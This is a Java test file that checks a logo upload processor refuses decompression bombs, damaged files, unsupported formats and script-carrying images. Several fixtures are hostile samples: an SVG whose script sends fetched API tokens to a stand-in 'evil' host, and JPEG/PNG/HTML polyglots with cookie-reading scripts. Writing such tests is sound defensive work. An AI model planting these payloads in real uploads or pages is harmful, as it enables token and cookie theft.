package org.devportal.logos;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.devportal.logos.LogoTestImages.gif;
import static org.devportal.logos.LogoTestImages.gradient;
import static org.devportal.logos.LogoTestImages.jpeg;
import static org.devportal.logos.LogoTestImages.png;
import static org.devportal.logos.LogoTestImages.pngDeclaring;
import static org.devportal.logos.LogoTestImages.withChunkAfterHeader;
import static org.devportal.logos.LogoTestImages.withSegmentAfterSoi;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.FilterInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.time.Duration;
import java.util.Arrays;
import java.util.stream.Stream;
import javax.imageio.IIOException;
import org.assertj.core.api.AbstractThrowableAssert;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.devportal.logos.LogoRejectedException.Reason;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class LogoUploadRejectionTest {

    private static final CropBox WHOLE_512 = CropBox.of(0, 0, 512);

    private final LogoProcessor processor = new LogoProcessor();

    @Test
    void a_png_declaring_20000_by_20000_pixels_is_refused_from_its_header_without_decoding() {
        byte[] bomb = pngDeclaring(20_000, 20_000);
        assertThat(bomb.length).as("a tiny file").isLessThan(1024);

        com.sun.management.ThreadMXBean threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        rejectionOf(() -> processor.process(pngDeclaring(30_000, 30_000), WHOLE_512)); // loads the classes
        long before = threads.getCurrentThreadAllocatedBytes();
        LogoRejectedException rejection = rejectionOf(() -> processor.process(bomb, WHOLE_512));
        long allocated = threads.getCurrentThreadAllocatedBytes() - before;

        assertThat(rejection.reason()).isEqualTo(Reason.TOO_MANY_PIXELS);
        assertThat(rejection)
                .hasMessage("This image is 20000×20000 pixels (400.0 megapixels); logos can have at most"
                        + " 40.0 megapixels. Scale it down to 2048×2048 or smaller and upload it again");
        // Decoded, the image would take 1.2 GB; refused from the header, it costs a few kilobytes.
        assertThat(allocated).isLessThan(64 * 1024);
        assertRejected(() -> processor.inspect(bomb), Reason.TOO_MANY_PIXELS);
    }

    @Test
    void megapixels_are_judged_as_shown_so_40_0_passes_and_40_1_is_refused_against_40_0() {
        assertThat(processor.inspect(pngDeclaring(8000, 5000)).pixels()).isEqualTo(40_000_000L);
        assertThat(processor.inspect(pngDeclaring(8009, 5000)).pixels())
                .as("40,045,000 pixels read as 40.0")
                .isEqualTo(40_045_000L);

        assertRejected(() -> processor.inspect(pngDeclaring(8010, 5000)), Reason.TOO_MANY_PIXELS)
                .hasMessage("This image is 8010×5000 pixels (40.1 megapixels); logos can have at most 40.0 "
                        + "megapixels. Scale it down to 2048×2048 or smaller and upload it again");
    }

    @Test
    void an_animated_png_is_refused_instead_of_keeping_its_first_frame() {
        byte[] animated = LogoTestImages.withChunkAfterHeader(
                png(gradient(300, 300)), "acTL", new byte[] {0, 0, 0, 2, 0, 0, 0, 0});

        assertRejected(() -> processor.inspect(animated), Reason.ANIMATED)
                .hasMessage("This PNG is animated (APNG); logos are still images. Export a single frame as a PNG "
                        + "and upload it again");
    }

    @Test
    void a_truncated_jpeg_is_refused_before_the_crop_step_and_bytes_after_its_end_are_fine() {
        byte[] jpeg = jpeg(gradient(600, 600));

        assertRejected(() -> processor.inspect(Arrays.copyOf(jpeg, jpeg.length - 200)), Reason.DAMAGED)
                .hasMessage("This JPEG file is incomplete (it ends too early); upload it again, or export it "
                        + "again from your image editor");
        assertRejected(() -> processor.inspect(Arrays.copyOf(jpeg, jpeg.length - 2)), Reason.DAMAGED);
        byte[] withTrailer = concat(jpeg, "camera trailer".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        assertThat(processor.inspect(withTrailer).type()).isEqualTo(LogoType.JPEG);
    }

    @Test
    void a_png_header_with_a_wrong_checksum_is_refused_as_damaged() {
        byte[] png = png(gradient(300, 300));
        png[8 + 8 + 3] ^= 0x01; // a bit of the width flips in transit

        assertRejected(() -> processor.inspect(png), Reason.DAMAGED);
    }

    @Test
    void a_truncated_png_is_refused_as_incomplete() {
        byte[] png = png(gradient(600, 600));
        byte[] truncated = Arrays.copyOf(png, png.length * 2 / 3);

        assertRejected(() -> processor.process(truncated, WHOLE_512), Reason.DAMAGED)
                .hasMessage("This PNG file is incomplete (it ends too early); upload it again, "
                        + "or export it again from your image editor");
    }

    @Test
    void a_png_with_corrupt_compressed_data_is_refused_as_damaged() {
        byte[] png = png(gradient(600, 600));
        int idat = new String(png, ISO_8859_1).indexOf("IDAT");
        for (int i = idat + 10; i < idat + 400; i++) {
            png[i] = (byte) 0xA5; // chunk structure intact, the deflate stream garbage
        }

        assertRejected(() -> processor.process(png, WHOLE_512), Reason.DAMAGED)
                .hasMessageContaining("This PNG file is damaged");
    }

    @Test
    void a_truncated_jpeg_is_refused_as_incomplete() {
        byte[] jpeg = jpeg(gradient(600, 600));
        byte[] truncated = Arrays.copyOf(jpeg, jpeg.length / 2);

        assertRejected(() -> processor.process(truncated, WHOLE_512), Reason.DAMAGED)
                .hasMessageContaining("This JPEG file is incomplete");
    }

    @Test
    void an_svg_with_a_script_is_refused_with_a_message_that_says_to_export_a_png() {
        byte[] svg = """
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="512" height="512">
                  <script>fetch('/api/tokens').then(r => r.text()).then(t => new Image().src = '//evil/?' + t)</script>
                  <rect width="512" height="512" fill="red"/>
                </svg>
                """.getBytes(UTF_8);

        assertRejected(() -> processor.process(svg, WHOLE_512), Reason.UNSUPPORTED_TYPE)
                .hasMessage("SVG logos are not accepted; export a PNG at 512×512 or larger");
    }

    @Test
    void an_html_page_with_a_jpeg_after_it_is_refused_as_a_web_page() {
        byte[] page = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script>".getBytes(UTF_8);
        byte[] polyglot = concat(page, jpeg(gradient(600, 600)));

        assertRejected(() -> processor.process(polyglot, WHOLE_512), Reason.UNSUPPORTED_TYPE)
                .hasMessage("This file is a web page (HTML), not an image; export a PNG at 512×512 or larger");
    }

    @Test
    void a_jpeg_carrying_a_script_in_a_comment_segment_is_refused() {
        byte[] comment = "*/=1;<script>alert(document.domain)</script>/*".getBytes(UTF_8);
        byte[] polyglot = withSegmentAfterSoi(jpeg(gradient(600, 600)), 0xFE, comment);

        assertRejected(() -> processor.process(polyglot, WHOLE_512), Reason.EMBEDDED_MARKUP)
                .hasMessage("This JPEG file has HTML or script code hidden in its metadata; "
                        + "export the image again from an image editor");
    }

    @Test
    void a_jpeg_carrying_html_in_an_application_segment_is_refused() {
        byte[] html = "Photoshop 3.0\0<HTML><BODY onload=alert(1)>".getBytes(UTF_8);
        byte[] polyglot = withSegmentAfterSoi(jpeg(gradient(600, 600)), 0xED, html);

        assertRejected(() -> processor.inspect(polyglot), Reason.EMBEDDED_MARKUP);
    }

    @Test
    void a_png_carrying_a_script_in_a_text_chunk_is_refused() {
        byte[] text = "Comment\0<script src=//evil/x.js></script>".getBytes(ISO_8859_1);
        byte[] polyglot = withChunkAfterHeader(png(gradient(300, 300)), "tEXt", text);

        assertRejected(() -> processor.inspect(polyglot), Reason.EMBEDDED_MARKUP)
                .hasMessageContaining("This PNG file has HTML or script code hidden in its metadata");
    }

    @Test
    void a_gif_is_refused_with_a_message_that_says_to_export_a_png() {
        byte[] gif = gif(gradient(600, 600));

        assertRejected(() -> processor.process(gif, WHOLE_512), Reason.UNSUPPORTED_TYPE)
                .hasMessage("GIF logos are not accepted; export a PNG at 512×512 or larger");
    }

    static Stream<Arguments> other_formats() {
        String exportPng = "export a PNG at 512×512 or larger";
        return Stream.of(
                Arguments.of(
                        "WebP", bytes("RIFF", 0, 0, 0, 0, "WEBPVP8L"), "WebP logos are not accepted; " + exportPng),
                Arguments.of(
                        "HEIC",
                        bytes(0, 0, 0, 0x18, "ftypheic"),
                        "HEIC images (the iPhone's photo format) are not accepted; " + exportPng + ", or a JPEG"),
                Arguments.of("AVIF", bytes(0, 0, 0, 0x1C, "ftypavif"), "AVIF images are not accepted; " + exportPng),
                Arguments.of("BMP", bytes("BM6", 0, 0, 0), "BMP images are not accepted; " + exportPng),
                Arguments.of("TIFF", bytes("II*", 0, 8, 0, 0, 0), "TIFF images are not accepted; " + exportPng),
                Arguments.of("PDF", bytes("%PDF-1.7"), "PDF files are not accepted; " + exportPng),
                Arguments.of(
                        "XML",
                        bytes("<?xml version=\"1.0\"?><logo/>"),
                        "This file is text with markup (such as XML), not an image; " + exportPng),
                Arguments.of("text", bytes("just some words"), "This file is not a PNG or JPEG image; " + exportPng));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("other_formats")
    void other_formats_are_refused_by_their_content_with_a_specific_message(
            String format, byte[] start, String message) {
        byte[] file = concat(start, new byte[2000]);

        assertRejected(() -> processor.inspect(file), Reason.UNSUPPORTED_TYPE).hasMessage(message);
    }

    @Test
    void a_jpeg_with_lossless_coding_is_refused_as_uncommon() {
        byte[] jpeg = jpeg(gradient(300, 300));
        int sof0 = indexOf(jpeg, (byte) 0xFF, (byte) 0xC0);
        jpeg[sof0 + 1] = (byte) 0xC3;

        assertRejected(() -> processor.inspect(jpeg), Reason.UNSUPPORTED_TYPE)
                .hasMessageContaining("uncommon encoding");
    }

    @Test
    void an_empty_file_is_refused() {
        assertRejected(() -> processor.process(new ByteArrayInputStream(new byte[0]), WHOLE_512), Reason.EMPTY)
                .hasMessage("The file is empty; choose a PNG or JPEG image of at least 256×256 pixels");
    }

    @Test
    void a_6_mb_file_is_refused_after_reading_no_more_than_5_mb() {
        byte[] sixMegabytes = concat(png(gradient(300, 300)), new byte[6_000_000]);
        CountingInputStream upload = new CountingInputStream(new ByteArrayInputStream(sixMegabytes));

        assertRejected(() -> processor.process(upload, WHOLE_512), Reason.TOO_LARGE)
                .hasMessageStartingWith("This file is larger than 5 MB, the limit");
        assertThat(upload.count).isLessThanOrEqualTo(LogoProcessor.MAX_FILE_BYTES + 1L);
    }

    @Test
    void a_100_by_100_image_is_refused_as_too_small() {
        byte[] small = png(gradient(100, 100));

        assertRejected(() -> processor.process(small, WHOLE_512), Reason.TOO_FEW_PIXELS)
                .hasMessage("This image is 100×100 pixels; logos need at least 256×256");
    }

    @Test
    void an_image_with_one_short_side_is_refused_as_too_small() {
        assertRejected(() -> processor.inspect(jpeg(gradient(1000, 180))), Reason.TOO_FEW_PIXELS)
                .hasMessage("This image is 1000×180 pixels; logos need at least 256×256");
    }

    @Test
    void a_crop_box_outside_the_image_is_refused() {
        byte[] png = png(gradient(600, 400));

        assertRejected(() -> processor.process(png, CropBox.of(300, 100, 350)), Reason.INVALID_CROP)
                .hasMessage("The crop area reaches past the edge of the 600×400 image; "
                        + "move it so that it lies inside the image");
        assertRejected(() -> processor.process(png, CropBox.of(0, 0, 450)), Reason.INVALID_CROP)
                .hasMessageContaining("this 600×400 image allows at most 400×400");
    }

    @Test
    void a_decode_that_overruns_its_deadline_is_refused() {
        LogoProcessor impatient = new LogoProcessor(Duration.ofNanos(1), 1);
        byte[] jpeg = jpeg(gradient(1200, 1200));

        assertRejected(() -> impatient.process(jpeg, CropBox.of(0, 0, 1200)), Reason.TOO_COSTLY)
                .hasMessageContaining("takes too long to decode");
    }

    @Test
    void a_png_decode_that_overruns_its_deadline_is_refused() {
        LogoProcessor impatient = new LogoProcessor(Duration.ofNanos(1), 1);
        byte[] png = png(gradient(1200, 1200));

        assertRejected(() -> impatient.process(png, CropBox.of(0, 0, 1200)), Reason.TOO_COSTLY)
                .hasMessageContaining("takes too long to decode");
    }

    @Test
    void a_decoder_running_out_of_memory_is_a_refused_image_not_a_server_error() {
        IIOException wrapped = new IIOException("Unexpected error", new OutOfMemoryError("Java heap space"));

        assertThat(RegionDecoder.rejectionFor(wrapped, LogoType.PNG))
                .isExactlyInstanceOf(LogoRejectedException.class)
                .hasMessageContaining("needs too much memory")
                .extracting(LogoRejectedException::reason)
                .isEqualTo(Reason.TOO_COSTLY);
        assertThat(RegionDecoder.rejectionFor(new OutOfMemoryError(), LogoType.JPEG)
                        .reason())
                .isEqualTo(Reason.TOO_COSTLY);
        assertThat(RegionDecoder.rejectionFor(new IIOException("Unsupported Image Type"), LogoType.JPEG)
                        .reason())
                .isEqualTo(Reason.DAMAGED);
    }

    private static AbstractThrowableAssert<?, ? extends Throwable> assertRejected(
            ThrowingCallable call, Reason reason) {
        return assertThatThrownBy(call)
                .isExactlyInstanceOf(LogoRejectedException.class)
                .satisfies(e -> assertThat(((LogoRejectedException) e).reason()).isEqualTo(reason))
                .satisfies(e -> assertThat(((LogoRejectedException) e).field()).isEqualTo("logo"));
    }

    /** Strings as ASCII, numbers as single bytes. */
    private static byte[] bytes(Object... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (Object part : parts) {
            if (part instanceof String text) {
                out.writeBytes(text.getBytes(ISO_8859_1));
            } else {
                out.write((Integer) part);
            }
        }
        return out.toByteArray();
    }

    private static LogoRejectedException rejectionOf(Runnable call) {
        try {
            call.run();
        } catch (LogoRejectedException e) {
            return e;
        }
        throw new AssertionError("expected a LogoRejectedException");
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }

    private static int indexOf(byte[] haystack, byte first, byte second) {
        for (int i = 0; i + 1 < haystack.length; i++) {
            if (haystack[i] == first && haystack[i + 1] == second) {
                return i;
            }
        }
        throw new AssertionError("not found");
    }

    private static final class CountingInputStream extends FilterInputStream {
        long count;

        CountingInputStream(InputStream in) {
            super(in);
        }

        @Override
        public int read() throws IOException {
            int b = super.read();
            if (b >= 0) {
                count++;
            }
            return b;
        }

        @Override
        public int read(byte[] buffer, int offset, int length) throws IOException {
            int n = super.read(buffer, offset, length);
            if (n > 0) {
                count += n;
            }
            return n;
        }
    }
}
